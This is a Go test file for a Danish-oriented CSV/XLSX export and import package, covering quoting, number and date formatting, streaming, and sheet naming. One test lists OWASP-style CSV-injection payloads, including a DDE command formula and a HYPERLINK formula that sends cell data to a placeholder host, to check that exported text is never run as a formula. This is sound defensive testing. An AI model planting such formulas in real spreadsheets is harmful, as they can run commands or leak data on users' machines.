package tabular

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"faelled/internal/money"
	"faelled/internal/when"

	"pgregory.net/rapid"
)

func tableOf(rows ...[]Cell) Sheet {
	return Sheet{Name: "Deltagere: æ/ø", Columns: []string{"Navn", "Antal"}, Rows: All(rows, func(row []Cell) []Cell { return row })}
}

func written(t interface{ Fatal(...any) }, f Format, s Sheet) []byte {
	var b bytes.Buffer
	if err := Write(&b, f, s); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestCSVOpensInADanishSpreadsheet(t *testing.T) {
	got := string(written(t, CSV, tableOf(
		[]Cell{Text("Åse Ø. Holm"), Int(-3), Money(money.Money{Minor: -1490050, Currency: "DKK"}), Money(money.Money{Minor: -5}), Day("2026-06-02"), Time(time.Date(2026, 6, 2, 7, 30, 0, 0, time.UTC))},
		[]Cell{Text("a;b"), Text(`sagde "nej"`), Text("to\r\nlinjer"), Text(" rum "), Text("a,b"), {}, Day(""), Time(time.Time{})},
		[]Cell{Text("+45 12 34 56 78"), Text("\x00\x1b")},
	)))
	want := "\ufeffNavn;Antal\r\n" +
		"Åse Ø. Holm;-3;-14900,50;-0,05;2026-06-02;2026-06-02 09:30\r\n" +
		"\"a;b\";\"sagde \"\"nej\"\"\";\"to\nlinjer\";\" rum \";\"a,b\";;;\r\n" +
		"'+45 12 34 56 78;\r\n"
	if got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

// formulas are what spreadsheets have been made to run (OWASP, "CSV Injection").
var formulas = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1+1)`, "\t=1", "\r=1", "\n=1", `=HYPERLINK("http://x.example?"&A1,"Klik")`,
	`  =1+1`, "\u00a0=1+1", `＝1+1`, `＠x`, `-`, "\x00=1+1", "\ufeff=1+1",
}

func TestNoTextBecomesAFormula(t *testing.T) {
	for _, evil := range formulas {
		row := []Cell{Text(evil), Text("x;" + evil), Text("x," + evil), Text("x\n" + evil)}
		csv := string(written(t, CSV, Sheet{Name: "x", Columns: []string{evil}, Rows: All([][]Cell{row}, func(row []Cell) []Cell { return row })}))
		csv = strings.TrimPrefix(csv, mark)
		for _, comma := range []byte(";,\t") { // opened with any separator
			p := parser{text: csv, comma: comma, line: 1}
			for p.at < len(p.text) {
				cells, _ := p.record()
				for _, cell := range cells {
					if risky(cell) {
						t.Errorf("%q: %q is run", evil, cell)
					}
				}
			}
		}
		body := part(t, written(t, XLSX, tableOf([]Cell{Text(evil)})), "xl/worksheets/sheet1.xml")
		if strings.Contains(body, "<f") || !strings.Contains(body, `<c r="A2" s="3" t="inlineStr">`) && clean(evil) != "" && risky(clean(evil)) {
			t.Errorf("%q: %s", evil, body)
		}
	}
}

// part is one file of a workbook.
func part(t *testing.T, book []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}

func TestXLSXHasTypedCells(t *testing.T) {
	body := part(t, written(t, XLSX, tableOf([]Cell{
		Text("a<b&_x0041_x0042_"), Int(12), Money(money.Money{Minor: 1490050}), Day("2026-06-02"), Time(time.Date(2026, 6, 2, 4, 0, 0, 0, time.UTC)), {}, Day("1900-01-01"),
	})), "xl/worksheets/sheet1.xml")
	for _, want := range []string{
		`<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>`,
		`<col min="1" max="1" width="19" customWidth="1"/><col min="2" max="2" width="8" customWidth="1"/>`,
		`<c r="A1" s="1" t="inlineStr"><is><t xml:space="preserve">Navn</t></is></c>`,
		`<t xml:space="preserve">a&lt;b&amp;_x005F_x0041_x005F_x0042_</t>`,
		`<c r="B2"><v>12</v></c>`, `<c r="C2" s="4"><v>14900.50</v></c>`, `<c r="D2" s="5"><v>46175</v></c>`, `<c r="E2" s="6"><v>46175.2500000000</v></c>`,
		`<c r="G2" s="2" t="inlineStr"><is><t xml:space="preserve">1900-01-01</t></is></c></row></sheetData>`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("lacks %s:\n%s", want, body)
		}
	}
	if book := part(t, written(t, XLSX, tableOf()), "xl/workbook.xml"); !strings.Contains(book, `name="Deltagere- æ-ø"`) {
		t.Error(book)
	}
}

// What is written is read again as it was, in both formats: also by whoever
// fetches a list, corrects it and hands it in.
func TestWrittenIsRead(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		word := rapid.OneOf(rapid.String(), rapid.SampledFrom(formulas), rapid.SampledFrom([]string{"", "a;b", `"`, `""`, `"a`, `a"b";`, "x\ny", "_x0041_", "'", "'=", "  a  ", "1,5", "ø"}))
		rows := rapid.SliceOfN(rapid.SliceOfN(word, 2, 5), 1, 8).Draw(t, "rows")
		s := Sheet{Name: "x", Columns: []string{"Navn", "Mail", "Titel"}, Rows: All(rows, func(row []string) []Cell { return Texts(row...) })}
		for _, f := range []Format{CSV, XLSX} {
			got, err := Read("fil", written(t, f, s))
			if err != nil {
				t.Fatal(f, err)
			}
			var want Table
			want.add(1, []string{"Navn", "Mail", "Titel"})
			for _, row := range rows {
				cells := make([]string, len(row))
				for i := range row {
					cells[i] = clean(row[i])
				}
				want.add(0, cells)
			}
			if len(got.Rows) != len(want.Rows) {
				t.Fatalf("%s: %d rows, not %d: %s", f, len(got.Rows), len(want.Rows), flat(got))
			}
			for i := range want.Rows {
				if strings.Join(got.Rows[i].Cells, "|") != strings.Join(want.Rows[i].Cells, "|") {
					t.Errorf("%s: %q, not %q", f, got.Rows[i].Cells, want.Rows[i].Cells)
				}
			}
		}
	})
}

func TestValuesAreReadAsDanesWriteThem(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.Int64Range(-1e12, 1e12).Draw(t, "minor")
		at := time.Unix(60*rapid.Int64Range(0, 60e6).Draw(t, "minute"), 0)
		d := when.On(at)
		row := []Cell{Text("x"), Money(money.Money{Minor: n}), Day(d), Time(at), Int(n)}
		csv, err := Read("fil", written(t, CSV, tableOf(row)))
		if err != nil {
			t.Fatal(err)
		}
		book, err := Read("fil", written(t, XLSX, tableOf(row)))
		if err != nil {
			t.Fatal(err)
		}
		for i := range row {
			want := csv.Rows[1].Cell(i)
			if i == 1 {
				want = strings.TrimSuffix(strings.TrimSuffix(strings.TrimRight(want, "0"), ","), ",")
				if n == 0 {
					want = "0"
				}
			}
			want = strings.TrimSuffix(want, " 00:00") // a number cannot tell midnight from the whole day
			if got := book.Rows[1].Cell(i); got != want {
				t.Errorf("cell %d: %q, not %q", i, got, want)
			}
		}
	})
}

// TestRowsDoNotWait: the first bytes are out long before the last row is made.
func TestRowsDoNotWait(t *testing.T) {
	for _, f := range []Format{CSV, XLSX} {
		var out counter
		made, early := 0, false
		rows := Paged(func(after int) ([][]Cell, int, error) {
			early = early || out > 0 && made < 10_000
			if made == 20_000 {
				return nil, 0, nil
			}
			made += 100
			page := make([][]Cell, 100)
			for i := range page {
				page[i] = Texts("Navn nummer", time.Duration(made*i).String())
			}
			return page, made, nil
		})
		if err := Write(&out, f, Sheet{Columns: []string{"a"}, Rows: rows}); err != nil || !early || made != 20_000 {
			t.Error(f, err, early, made)
		}
	}
}

type counter int

func (c *counter) Write(b []byte) (int, error) { *c += counter(len(b)); return len(b), nil }

type gone struct{}

var errGone = errors.New("gone")

func (gone) Write([]byte) (int, error) { return 0, errGone }

// TestNobodyWritesToAReaderWhoLeft: the list stops being read as well.
func TestNobodyWritesToAReaderWhoLeft(t *testing.T) {
	for _, f := range []Format{CSV, XLSX} {
		made := 0
		rows := func(yield func([]Cell, error) bool) {
			for yield(Texts("Navn nummer", time.Duration(made*made*7919).String()), nil) {
				made++
			}
		}
		if err := Write(gone{}, f, Sheet{Columns: []string{"a"}, Rows: rows}); !errors.Is(err, errGone) || made > 100_000 {
			t.Error(f, err, made)
		}
		broken := errors.New("broken")
		failing := func(yield func([]Cell, error) bool) { yield(nil, broken) }
		var out bytes.Buffer
		if err := Write(&out, f, Sheet{Columns: []string{"a"}, Rows: failing}); !errors.Is(err, broken) || out.Len() > 0 {
			t.Error(f, err, out.Len())
		}
	}
}

func TestNamesOfSheetsAndColumns(t *testing.T) {
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 701: "ZZ", 702: "AAA"} {
		if got := columnName(i); got != want {
			t.Error(i, got)
		}
	}
	for name, want := range map[string]string{"": "1", "'": "1", "a/b": "a-b", strings.Repeat("å", 40): strings.Repeat("å", 31)} {
		if got := sheetName(name); got != want {
			t.Error(name, got)
		}
	}
	if n := len([]rune(cut(strings.Repeat("å", 40_000)))); n != cellUnits {
		t.Error(n)
	}
}
